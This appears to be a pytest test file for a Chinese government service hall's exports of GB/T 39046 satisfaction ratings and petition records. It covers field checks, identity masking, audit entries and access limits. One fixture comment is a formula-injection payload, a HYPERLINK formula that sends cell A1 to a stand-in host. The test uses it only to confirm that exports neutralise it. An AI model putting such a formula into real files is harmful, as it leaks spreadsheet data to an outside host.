"""Records for the national systems: the 好差评 records checked against GB/T 39046 table 9 by a
checker built from the standard's table (fields, order, codes), in JSON, CSV and .xlsx; the
provincial reversed codes; the 信访件 records; who may take them, with what identity; each
export audited; Art. 30 in both."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from reception.models import AuditEntry, Case, Visitor
from reception.oversight import ratings
from reception.queue import moves
from tests.helpers import (
    commit,
    desk_by_number,
    issue,
    local,
    login,
    service_by_prefix,
    user_by_name,
)

DAY = "2026-11-24"
MONTH = "period=month&day=2026-11-01"

# GB/T 39046-2020 table 9, as the standard lists it: the field, and what a value must be
TABLE_9 = {
    "办件编号": re.compile(r"^[A-Za-z0-9-]{1,50}$"),
    "评价渠道": re.compile(
        r"^(PC端|移动服务端|二维码|政务大厅平板电脑|政务大厅其他终端|电话|短信)$"
    ),
    "评价人": re.compile(r"^.{1,50}$"),
    "评价时间": re.compile(r"^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$"),
    "评价次数": re.compile(r"^[1-9]\d*$"),
    "满意度": re.compile(r"^(非常满意|满意|基本满意|不满意|非常不满意)$"),
    "满意度代码": re.compile(r"^[1-5]$"),
    "文字评价": re.compile(r"^.{0,500}$", re.S),
    "行政区划": re.compile(r"^\d{6}(\d{6})?$"),
}
STANDARD_CODES = {"非常满意": 1, "满意": 2, "基本满意": 3, "不满意": 4, "非常不满意": 5}


def check_table_9(heading: list[str], rows: list[list[object]], *, reversed_codes=False) -> None:
    """Refuse a file that is not GB/T 39046 table 9: the fields in order, every value in shape,
    满意度代码 agreeing with 满意度 (or its provincial reverse)."""
    assert heading == list(TABLE_9), heading
    assert rows, "no records"
    for row in rows:
        record = dict(zip(heading, row, strict=True))
        for name, shape in TABLE_9.items():
            assert shape.match(str(record[name])), (name, record[name])
        expected = STANDARD_CODES[record["满意度"]]
        assert int(record["满意度代码"]) == (6 - expected if reversed_codes else expected)


@pytest.fixture
def month(db, hall):
    """A November with three rated visits: one anonymous (rated on the phone, then at a second
    desk after a transfer), one of a registered matter (rated on the desk's device), and one of
    an accusation against 市住建局 (B)."""
    hall.region_code = "130500"
    a, f = service_by_prefix("A"), service_by_prefix("F")
    desk = desk_by_number(1)
    when = local(DAY, "09:00")

    def served(service_id: int, desk_id: int, at):
        ticket = issue(hall.id, service_id, at)
        commit(moves.call_ticket(desk_id, ticket.id, now=at))
        commit(moves.start(ticket.id, now=at))
        return ticket

    plain = served(a.id, desk.id, when)
    commit(moves.transfer(plain.id, service_id=f.id, now=when + timedelta(minutes=5)))
    commit(ratings.rate(plain, 1, 5, "很好", when + timedelta(minutes=6)))
    commit(moves.call_ticket(desk_by_number(6).id, plain.id, now=when + timedelta(minutes=7)))
    commit(moves.start(plain.id, now=when + timedelta(minutes=7)))
    commit(moves.finish(plain.id, "answered", now=when + timedelta(minutes=9)))
    commit(ratings.rate(plain, 2, 3, "", when + timedelta(minutes=10)))

    def with_matter(name: str, **case) -> Case:
        visitor = Visitor(name=name, id_number="110101199003074514")
        db.session.add(visitor)
        db.session.flush()
        matter = Case(
            hall_id=hall.id,
            visitor_id=visitor.id,
            registered_on=local(DAY, "09:00").date(),
            account="诉求",
            category="住房",
            department_id=f.id,
            **case,
        )
        db.session.add(matter)
        db.session.flush()
        return matter

    matter = with_matter("张三丰", group_size=6, purpose="申诉")
    registered = served(a.id, desk.id, when + timedelta(hours=1))
    registered.case_id = matter.id
    commit(moves.finish(registered.id, "answered", now=when + timedelta(hours=1, minutes=5)))
    comment = '=HYPERLINK("http://x.example/?"&A1,"点此")'
    commit(
        ratings.rate(
            registered,
            1,
            1,
            comment,
            when + timedelta(hours=1, minutes=6),
            "device",
            reasons=["attitude"],
        )
    )
    accusation = with_matter("李四", accusation=True, accused_id=service_by_prefix("B").id)
    accused = served(a.id, desk.id, when + timedelta(hours=2))
    accused.case_id = accusation.id
    commit(moves.finish(accused.id, "answered", now=when + timedelta(hours=2, minutes=5)))
    commit(ratings.rate(accused, 1, 4, "", when + timedelta(hours=2, minutes=6)))
    return {"matter": matter, "accusation": accusation, "comment": comment}


def _csv(answer) -> tuple[list[str], list[list[str]]]:
    text = answer.get_data(as_text=True)
    assert text.startswith("\ufeff")
    table = list(csv.reader(io.StringIO(text[1:])))
    return table[0], table[1:]


def _xlsx(answer) -> tuple[list[str], list[list[object]]]:
    sheet = load_workbook(io.BytesIO(answer.data)).active
    table = [
        [cell if cell is not None else "" for cell in row]
        for row in sheet.iter_rows(values_only=True)
    ]
    return table[0], table[1:]


def test_a_month_of_ratings_passes_the_standards_table_in_every_format(client, month):
    login(client, "supervisor")
    base = f"/reports/exports/ratings?{MONTH}"
    as_json = client.get(f"{base}&fmt=json")
    assert as_json.status_code == 200, as_json.get_data(as_text=True)
    assert "attachment" in as_json.headers["Content-Disposition"]
    described = json.loads(as_json.data)
    assert described["standard"] == "GB/T 39046-2020"
    names = {f["key"]: f["name"] for f in described["fields"]}
    heading = list(names.values())
    json_rows = [[record[key] for key in names] for record in described["records"]]
    check_table_9(heading, json_rows)
    csv_heading, csv_rows = _csv(client.get(f"{base}&fmt=csv"))
    check_table_9(csv_heading, [[c.removeprefix("'") for c in row] for row in csv_rows])
    xlsx_heading, xlsx_rows = _xlsx(client.get(f"{base}&fmt=xlsx"))
    check_table_9(xlsx_heading, [[str(c).removeprefix("'") for c in row] for row in xlsx_rows])
    assert len(json_rows) == len(csv_rows) == len(xlsx_rows) == 4

    by_number = {}
    for record in described["records"]:
        by_number.setdefault(record["bjbh"], []).append(record)
    # the transferred visit: one 办件 rated twice, in order, on the visitor's phone (QR code)
    twice = next(records for records in by_number.values() if len(records) == 2)
    assert [r["pjcs"] for r in twice] == [1, 2]
    assert [r["myd"] for r in twice] == ["非常满意", "基本满意"]
    assert {r["pjqd"] for r in twice} == {"二维码"} and twice[0]["pjr"] == "匿名"
    bad = next(r for r in described["records"] if r["myd"] == "非常不满意")
    assert bad["pjqd"] == "政务大厅平板电脑" and bad["mydm"] == 5
    assert bad["pjr"] == "张*丰"  # masked: 评价人信息保密
    assert bad["wzpj"] == month["comment"] and bad["xzqh"] == "130500"
    assert bad["pjsj"] == f"{DAY} 10:06:00"  # hall time
    # the formula is inert in the files (a leading apostrophe), as in every export
    assert any(c == "'" + month["comment"] for row in csv_rows for c in row)


def test_the_provincial_order_reverses_the_codes(client, month):
    login(client, "supervisor")
    described = client.get(f"/reports/exports/ratings?{MONTH}&fmt=json&reversed_codes=1").json
    heading = [f["name"] for f in described["fields"]]
    rows = [[r[f["key"]] for f in described["fields"]] for r in described["records"]]
    check_table_9(heading, rows, reversed_codes=True)
    assert {r["myd"]: r["mydm"] for r in described["records"]}["非常满意"] == 5


def test_every_export_is_audited(client, db, month):
    login(client, "supervisor")
    client.get(f"/reports/exports/ratings?{MONTH}&fmt=csv")
    client.get(f"/reports/exports/petitions?{MONTH}&fmt=xlsx&identity=1")
    entries = db.session.scalars(
        select(AuditEntry).where(AuditEntry.action.like("export_%")).order_by(AuditEntry.id)
    ).all()
    supervisor = user_by_name("supervisor")
    assert [(e.action, e.staff_id) for e in entries] == [
        ("export_ratings", supervisor.id),
        ("export_petitions", supervisor.id),
    ]
    assert entries[0].detail == "2026-11-01..2026-11-30 csv, 4 records"
    assert entries[1].detail == "2026-11-01..2026-11-30 xlsx, 2 records with identity"


def test_the_petition_records_carry_identity_only_for_the_supervisor(client, month):
    login(client, "supervisor")
    masked = client.get(f"/reports/exports/petitions?{MONTH}&fmt=json").json["records"]
    full = client.get(f"/reports/exports/petitions?{MONTH}&fmt=json&identity=1").json["records"]
    matter = month["matter"]
    record = next(r for r in full if r["xfjbh"] == matter.number)
    assert (record["xfr"], record["zjhm"]) == ("张三丰", "110101199003074514")
    shown = next(r for r in masked if r["xfjbh"] == matter.number)
    assert (shown["xfr"], shown["zjhm"]) == ("张*丰", "110101********4514")
    assert shown["xfxs"] == "走访" and shown["xfmd"] == "申诉" and shown["nrfl"] == "住房"
    assert shown["sjrs"] == 6 and shown["sfjtf"] == "是" and shown["qxdw"] == "市房产局"
    assert shown["clyj"] == "待受理" and shown["blqx"] == "2026-12-09" and shown["bjjl"] == ""
    assert next(r for r in masked if r["xfmd"] == "揭发控告")
    client.get("/auth/logout")
    login(client, "leader")
    refused = client.get(f"/reports/exports/petitions?{MONTH}&fmt=json&identity=1")
    assert refused.status_code == 403
    assert "张三丰" not in refused.get_data(as_text=True)


def test_the_accused_department_exports_nothing_of_the_accusation(client, db, month):
    leader = user_by_name("leader")
    leader.department_id = service_by_prefix("B").id
    db.session.commit()
    login(client, "leader")
    rated = client.get(f"/reports/exports/ratings?{MONTH}&fmt=json").json["records"]
    matters = client.get(f"/reports/exports/petitions?{MONTH}&fmt=json").json["records"]
    assert len(rated) == 3 and {r["myd"] for r in rated} == {"非常满意", "基本满意", "非常不满意"}
    assert [r["xfjbh"] for r in matters] == [month["matter"].number]
    client.get("/auth/logout")
    login(client, "supervisor")
    assert len(client.get(f"/reports/exports/petitions?{MONTH}&fmt=json").json["records"]) == 2


def test_the_api_gives_the_same_records_described_by_its_schema(app, client, db, month):
    token = user_by_name("supervisor").new_api_token()
    db.session.commit()
    headers = {"Authorization": f"Bearer {token}"}
    api = client.get("/api/v1/exports/ratings?period=month&day=2026-11-01", headers=headers)
    assert api.status_code == 200, api.get_json()
    login(client, "supervisor")
    page = client.get(f"/reports/exports/ratings?{MONTH}&fmt=json").json
    assert api.get_json()["records"] == page["records"]
    assert api.get_json()["fields"] == page["fields"] and page["fields"][0]["name"] == "办件编号"
    petitions = client.get(
        "/api/v1/exports/petitions?period=month&day=2026-11-01&identity=true", headers=headers
    )
    assert petitions.status_code == 200
    assert petitions.get_json()["records"][0]["xfr"] == "张三丰"
    spec = client.get("/api/v1/openapi.json").get_json()
    assert "/api/v1/exports/ratings" in spec["paths"]
    record = spec["components"]["schemas"]["RatingRecord"]["properties"]
    assert record["mydm"]["description"].startswith("满意度代码")


@pytest.mark.parametrize(
    "query",
    ["period=fortnight", "day=2026-13-01", "fmt=pdf", "period=range&day=2026-11-01", "service=x"],
)
def test_a_bad_export_is_refused_with_a_message(client, month, query):
    login(client, "supervisor")
    answer = client.get(f"/reports/exports/ratings?{query}")
    assert answer.status_code == 422
    assert answer.get_json()["message"]


def test_the_records_are_read_in_a_fixed_number_of_queries(db, hall, month):
    """A month of ratings is one query and one for the raters (not one a rating)."""
    from sqlalchemy import event

    from reception.oversight.exports import good_bad
    from reception.oversight.reports import scope_of

    scope = scope_of(hall, "month", local(DAY, "09:00").date())
    db.session.expire_all()
    assert hall.region_code  # the hall itself read again before counting
    statements: list[str] = []

    def count(conn, cursor, statement, *args):
        statements.append(statement)

    engine = db.session.get_bind()
    event.listen(engine, "before_cursor_execute", count)
    try:
        records = good_bad.records(hall, scope)
    finally:
        event.remove(engine, "before_cursor_execute", count)
    assert len(records) == 4
    assert len([s for s in statements if s.lstrip().upper().startswith("SELECT")]) <= 2, statements
